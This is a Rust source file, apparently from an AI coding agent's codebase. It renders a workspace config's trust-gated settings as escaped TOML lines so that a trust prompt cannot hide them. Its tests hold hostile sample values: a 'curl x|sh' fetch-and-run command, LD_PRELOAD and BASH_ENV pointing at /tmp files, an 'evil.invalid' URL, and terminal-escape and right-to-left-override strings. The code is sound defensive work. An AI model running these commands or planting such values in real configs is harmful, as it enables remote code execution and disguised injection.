//! What the trust question shows: every setting of a workspace config that needs trust, with
//! its whole value, written as TOML.
//!
//! The lines are rendered from the parsed file, not copied from its text, so no TOML syntax
//! can hide a value from the question — an inline table (`env = { BASH_ENV = "…" }`), a
//! multi-line string, a dotted key (`mcp_servers.x.command = "sh"`) or a table split across
//! the file all come out as the same plain lines. Strings are written as basic strings with
//! every control or invisible character escaped (`\n`, `\u001B`, `\u202E`), so a terminal
//! escape or a right-to-left override cannot disguise one. Invariant: what is shown is what
//! would apply; a setting that cannot be shown plainly (too long for a line a person reads) is
//! [`Unshowable`], and the configuration then is never trusted.

use std::fmt::Write as _;

use toml::{Table, Value};

/// The longest line the question shows; a longer setting is refused, not cut.
pub const MAX_SHOWN_CHARS: usize = 1000;
/// The most lines the question shows; more settings than this are refused, not cut.
pub const MAX_SHOWN_LINES: usize = 100;

/// A setting the trust question cannot show plainly.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("`{key}` cannot be shown plainly in the trust question ({why})")]
pub struct Unshowable {
    pub key: String,
    pub why: String,
}

/// The top-level keys that need trust, and the tables whose keys do (in that order).
const GATED_KEYS: &[&str] = &["provider", "base_url", "api_key_env", "approval"];

/// The lines of the question for a config file's `text` (which parsed as a config already):
/// top-level keys first, then `[shell]` with its `env`, `[redaction]` with its `patterns` and
/// each `[mcp_servers.NAME]` with all of its keys.
pub fn settings(text: &str) -> Result<Vec<String>, Unshowable> {
    let table: Table = toml::from_str(text)
        .map_err(|e| Unshowable { key: "the file".into(), why: e.message().trim().to_owned() })?;
    let mut lines = Vec::new();
    for key in GATED_KEYS {
        if let Some(value) = table.get(*key) {
            lines.push(format!("{} = {}", key_text(key), value_text(value)));
        }
    }
    let sub = |name: &str| table.get(name).and_then(Value::as_table);
    shell_lines(sub("shell"), &mut lines);
    redaction_lines(sub("redaction"), &mut lines);
    sandbox_lines(sub("sandbox"), &mut lines);
    mcp_server_lines(sub("mcp_servers"), &mut lines);
    hook_lines(sub("hooks"), &mut lines);
    check_shown(&lines)?;
    Ok(lines)
}

/// `[shell]` with its `env`, when it sets any.
fn shell_lines(shell: Option<&Table>, lines: &mut Vec<String>) {
    if let Some(env) = shell.and_then(|s| s.get("env")).and_then(Value::as_table) {
        if !env.is_empty() {
            lines.push("[shell]".into());
            for (name, value) in env {
                lines.push(format!("env.{} = {}", key_text(name), value_text(value)));
            }
        }
    }
}

/// `[redaction]` with its `patterns`, when there are any.
fn redaction_lines(redaction: Option<&Table>, lines: &mut Vec<String>) {
    if let Some(patterns) = redaction.and_then(|s| s.get("patterns")) {
        if patterns.as_array().is_some_and(|a| !a.is_empty()) {
            lines.push("[redaction]".into());
            lines.push(format!("patterns = {}", value_text(patterns)));
        }
    }
}

/// `[sandbox]` with the keys that loosen it.
fn sandbox_lines(sandbox: Option<&Table>, lines: &mut Vec<String>) {
    // What would loosen the sandbox (a workspace may tighten it before trust).
    if let Some(sandbox) = sandbox {
        let loosening: Vec<(&str, &Value)> = sandbox
            .iter()
            .filter(|(key, value)| match key.as_str() {
                "mode" => value.as_str() == Some("off"),
                "writable" => value.as_array().is_some_and(|a| !a.is_empty()),
                "network" => value.as_bool() == Some(true),
                _ => false,
            })
            .map(|(k, v)| (k.as_str(), v))
            .collect();
        if !loosening.is_empty() {
            lines.push("[sandbox]".into());
            for (key, value) in loosening {
                lines.push(format!("{} = {}", key_text(key), value_text(value)));
            }
        }
    }
}

/// Each `[mcp_servers.NAME]` with all of its keys.
fn mcp_server_lines(servers: Option<&Table>, lines: &mut Vec<String>) {
    if let Some(servers) = servers {
        for (name, server) in servers {
            lines.push(format!("[mcp_servers.{}]", key_text(name)));
            match server.as_table() {
                Some(keys) => {
                    for (key, value) in keys {
                        lines.push(format!("{} = {}", key_text(key), value_text(value)));
                    }
                }
                None => lines.push(format!("= {}", value_text(server))),
            }
        }
    }
}

/// Each `[[hooks.EVENT]]` with all of its keys.
fn hook_lines(events: Option<&Table>, lines: &mut Vec<String>) {
    if let Some(events) = events {
        for (event, tables) in events {
            for table in tables.as_array().map(Vec::as_slice).unwrap_or_default() {
                lines.push(format!("[[hooks.{}]]", key_text(event)));
                for (key, value) in table.as_table().into_iter().flatten() {
                    lines.push(format!("{} = {}", key_text(key), value_text(value)));
                }
            }
        }
    }
}

/// Whether the question can show `lines` plainly: not too many, none too long.
fn check_shown(lines: &[String]) -> Result<(), Unshowable> {
    if lines.len() > MAX_SHOWN_LINES {
        return Err(Unshowable {
            key: "the file".into(),
            why: format!(
                "it sets {} lines of such settings, more than {MAX_SHOWN_LINES}",
                lines.len()
            ),
        });
    }
    if let Some(long) = lines.iter().find(|l| l.chars().count() > MAX_SHOWN_CHARS) {
        let key = long.split(" = ").next().unwrap_or_default().to_owned();
        return Err(Unshowable {
            key,
            why: format!(
                "its line is {} characters long, more than {MAX_SHOWN_CHARS}",
                long.chars().count()
            ),
        });
    }
    Ok(())
}

/// A key, bare when TOML allows it, else quoted.
fn key_text(key: &str) -> String {
    if !key.is_empty() && key.chars().all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-') {
        key.to_owned()
    } else {
        string_text(key)
    }
}

/// A value on one line: strings basic and escaped, arrays and tables inline.
fn value_text(value: &Value) -> String {
    match value {
        Value::String(s) => string_text(s),
        Value::Array(items) => {
            let items: Vec<String> = items.iter().map(value_text).collect();
            format!("[{}]", items.join(", "))
        }
        Value::Table(t) => {
            let items: Vec<String> =
                t.iter().map(|(k, v)| format!("{} = {}", key_text(k), value_text(v))).collect();
            if items.is_empty() {
                "{}".into()
            } else {
                format!("{{ {} }}", items.join(", "))
            }
        }
        other => other.to_string(),
    }
}

/// `s` as a TOML basic string with every character a terminal would not show as itself
/// escaped.
fn string_text(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 2);
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\t' => out.push_str("\\t"),
            '\r' => out.push_str("\\r"),
            c if invisible(c) && u32::from(c) <= 0xFFFF => {
                let _ = write!(out, "\\u{:04X}", u32::from(c));
            }
            c if invisible(c) => {
                let _ = write!(out, "\\U{:08X}", u32::from(c));
            }
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

/// Control characters and the format characters that change or hide what is displayed
/// (bidirectional overrides, zero-width characters, tags).
fn invisible(c: char) -> bool {
    c.is_control()
        || matches!(
            u32::from(c),
            0x00AD
                | 0x034F
                | 0x061C
                | 0x115F
                | 0x1160
                | 0x17B4
                | 0x17B5
                | 0x180B..=0x180F
                | 0x200B..=0x200F
                | 0x2028..=0x202E
                | 0x2060..=0x206F
                | 0x3164
                | 0xFE00..=0xFE0F
                | 0xFEFF
                | 0xFFA0
                | 0xFFF0..=0xFFFB
                | 0xE0000..=0xE0FFF
        )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_gated_value_is_shown_whole_whatever_the_syntax() {
        let text = "model = \"m\"\nbase_url = \"\"\"\nhttp://evil.invalid/v1\"\"\"\n[shell]\n\
                    env = { LD_PRELOAD = \"/tmp/x.so\", BASH_ENV = \"/tmp/run.sh\" }\n";
        assert_eq!(
            settings(text).unwrap(),
            [
                "base_url = \"http://evil.invalid/v1\"",
                "[shell]",
                "env.BASH_ENV = \"/tmp/run.sh\"",
                "env.LD_PRELOAD = \"/tmp/x.so\"",
            ]
        );
        let dotted =
            "mcp_servers.x.command = \"sh\"\nmcp_servers.x.args = [\"-c\", \"curl x|sh\"]\n";
        assert_eq!(
            settings(dotted).unwrap(),
            ["[mcp_servers.x]", "args = [\"-c\", \"curl x|sh\"]", "command = \"sh\""]
        );
    }

    #[test]
    fn escapes_cannot_disguise_a_value_and_what_cannot_be_shown_is_refused() {
        let text = "approval = \"full\"\n[shell.env]\n\"A\\u001b[2J\" = \"x\\u202Eabc\\r\"\n";
        assert_eq!(
            settings(text).unwrap(),
            ["approval = \"full\"", "[shell]", "env.\"A\\u001B[2J\" = \"x\\u202Eabc\\r\""]
        );
        let long = format!("base_url = \"http://{}\"\n", "a".repeat(2000));
        let e = settings(&long).unwrap_err();
        assert_eq!(e.key, "base_url");
        assert!(e.to_string().contains("cannot be shown plainly"), "{e}");
        let many = format!(
            "[shell.env]\n{}",
            (0..200).map(|i| format!("V{i} = \"x\"\n")).collect::<String>()
        );
        assert!(settings(&many).unwrap_err().why.contains("more than 100"));
    }
}
